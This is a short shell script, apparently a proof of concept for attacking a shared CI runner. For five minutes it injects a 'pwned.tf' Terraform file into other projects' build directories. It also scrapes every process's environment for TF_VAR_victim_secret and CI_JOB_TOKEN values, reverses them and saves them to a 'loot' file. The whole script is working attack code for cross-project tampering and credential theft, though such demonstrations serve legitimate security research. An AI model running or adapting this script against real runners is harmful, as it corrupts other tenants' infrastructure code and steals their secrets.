#!/bin/sh
# Usage: loiter.sh <runner work dir> <own project dir> <marker>. Runs for at most five minutes.
w=$1 here=$2 marker=$3
end=$(( $(date +%s) + 300 ))
while [ "$(date +%s)" -lt "$end" ]; do
  for f in $(find "$w/builds" -name main.tf 2>/dev/null); do
    d=$(dirname "$f")
    [ "$d" = "$here" ] && continue
    [ -e "$d/pwned.tf" ] || printf 'output "pwned" {\n  value = "pwned-by-%s"\n}\n' "$marker" > "$d/pwned.tf"
  done
  for e in /proc/[0-9]*/environ; do
    tr '\0' '\n' < "$e" 2>/dev/null | grep -e '^TF_VAR_victim_secret=' -e '^CI_JOB_TOKEN=' | rev >> "$w/loot-$marker"
  done
  sleep 0.2
done
